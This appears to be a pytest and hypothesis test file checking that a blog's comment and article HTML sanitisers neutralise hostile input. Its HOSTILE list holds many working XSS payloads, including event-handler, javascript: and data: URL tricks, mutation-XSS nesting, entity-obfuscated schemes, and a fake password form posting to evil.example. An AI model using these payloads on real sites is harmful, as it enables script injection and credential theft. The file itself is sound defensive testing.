"""What attackers send, through both cleaners: nothing may come out that runs, or that nh3 minds."""

from html import unescape
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from blog.text import policies
from blog.text.html import article, comment

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)//",
    "<script/x>alert(1)</script/x>",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 2x, https://e.com/a 1x">',
    '<picture><source srcset="data:text/html,x"><img src=//e.com/x></picture>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><p title='</desc></svg><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><p>x</p></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x><param name=y></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=javascript:1>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://e.com/1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='https://e.com' target=_blank rel=opener onclick=alert(1) ping=//evil style=x>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    '<a href="https://e.com/&quot; onclick=&quot;alert(1)">x</a>',
    "<a href='https://e.com/\"><script>alert(1)</script>'>x</a>",
    "<a href='x`onmouseover=alert(1)`'>x</a>",
    "<p style='background:url(javascript:alert(1))' class='admin' id='main'>x</p>",
    "<b onclick=alert(1) x='<script>'>x</b>",
    "<b/onclick=alert(1)//<b>",
    "<p id=x\"><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<?php system('id') ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "http://e.com/\"onmouseover=alert(1)",
    "http://e.com/<script>alert(1)</script>",
    "http://e.com/&quot;onclick=alert(1)&quot;",
    "</p></div></article><script>alert(1)</script>",
    "<table><td><a href=x><table><b></a>y",
    "<li></article><li><p><a href=https://e.com><div>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite='data:x'>y</q>",
    "<ol start='1\" onclick=alert(1)'><li id='a b'>x</ol>",
    "<pre>\n\n<img src=x onerror=alert(1)></pre>",
    "<code class='language-x\" onclick=alert(1)'>x</code>",
    "\u202egnp.exe\u2066<b>\u2069</b>&#x202e;&#8294;",
    "<a href=https://e.com/\u202egnp.exe>x</a>",
    "<", "<a", "<a href", "<a href=", "</", "<!", "<!-", "<?",
    "&", "&#", "&#x", "&#x110000;", "&#0;",
]  # fmt: skip

PIECES = [
    "<b>", "</b>", "<i>", "</i>", "<a href=https://e.com>", "</a>", "<p>", "</p>", "<ul>",
    "</ul>", "<ol>", "<li>", "</li>", "<pre>", "</pre>", "<blockquote>", "</blockquote>",
    "<code>", "</code>", "<br>", "<table>", "<tr>", "<td>", "</table>", "<div>", "</div>", "<h1>",
    "</h1>", "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>",
    "<mtext>", "<title>", "</title>", "<img src=x>", "<figure>", "<figcaption>", "<select>",
    "<details>", "<summary>", "<dl>", "<dd>", "<template>", "<!--", "-->", "<", ">", '"', "'",
    "&", "&lt;", "&amp;", "&#x301;", "\n", "\n\n", " ", "\t", "\r", "söz",
    "http://e.com/?a=1&b=2", "İ", "\u0301", "\u200d", "\u202e", "\x00", "onclick=x", "<p class=",
    "\u00a0",
]  # fmt: skip

soup = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=25).map("".join)

COMMENT_ATTRIBUTES = {"a": {"href", "rel"}}
ARTICLE_ATTRIBUTES = {
    tag: policies._ATTRIBUTES.get(tag, set()) | policies._EVERYWHERE
    for tag in policies.ARTICLE_TAGS
}
VOID = {"br", "hr", "img", "source"}


class Events(HTMLParser):
    """The tags, attributes and words of some HTML, in order."""

    def __init__(self, html):
        super().__init__()
        self.seen = []
        self.open = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, sorted(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        self.seen.append(("/", tag))
        assert self.open.pop() == tag, "badly nested"

    def handle_data(self, data):
        if self.seen and self.seen[-1][0] == "text":
            data = self.seen.pop()[1] + data
        self.seen.append(("text", data))

    def handle_comment(self, data):
        raise AssertionError(f"a comment came through: {data!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html, tags, attributes, schemes):
    events = Events(html)
    assert not events.open, "left open"
    witness = nh3.clean(
        html, tags=set(tags), attributes=attributes, url_schemes=set(schemes), link_rel=None
    )
    assert Events(witness).seen == events.seen


def assert_harmless_comment(html):
    assert_harmless(html, policies.COMMENT_TAGS, COMMENT_ATTRIBUTES, policies.COMMENT_PROTOCOLS)


def assert_harmless_article(html):
    assert_harmless(html, policies.ARTICLE_TAGS, ARTICLE_ATTRIBUTES, policies.ARTICLE_PROTOCOLS)


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_comment_comes_out_harmless(payload):
    assert_harmless_comment(comment(payload))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_article_comes_out_harmless(payload):
    assert_harmless_article(article(payload))


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_link_in_an_article_has_a_scheme_that_runs(payload):
    for _, attributes in (e for e in Events(article(payload)).seen if isinstance(e[1], list)):
        for name, value in attributes:
            if name in {"href", "src", "cite", "srcset"}:
                squeezed = "".join(c for c in unescape(value) if c > " ").lower()
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:", "blob:"))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_comment_cleaned_twice_is_the_same(payload):
    assert comment(comment(payload)) == comment(payload)


@given(soup)
def test_no_soup_of_tags_gets_harm_into_a_comment(raw):
    assert_harmless_comment(comment(raw))


@given(soup)
def test_a_comment_cleaned_twice_is_the_same(raw):
    assert comment(comment(raw)) == comment(raw)


@given(soup)
def test_no_soup_of_tags_gets_harm_into_an_article(raw):
    cleaned = article(raw)
    witness = nh3.clean(
        cleaned,
        tags=set(policies.ARTICLE_TAGS),
        attributes=ARTICLE_ATTRIBUTES,
        url_schemes=set(policies.ARTICLE_PROTOCOLS),
        link_rel=None,
    )
    assert ingredients(witness) == ingredients(cleaned)


@given(soup)
def test_an_article_cleaned_twice_has_lost_nothing(raw):
    assert ingredients(article(article(raw))) == ingredients(article(raw))


def ingredients(html):
    """Which tags, attributes and letters there are; HTML itself moves some on every reading."""
    seen = Events(html).seen
    letters = "".join(data for kind, data in seen if kind == "text")
    return {str(event) for event in seen if event[0] != "text"}, sorted(letters.replace("\n", ""))
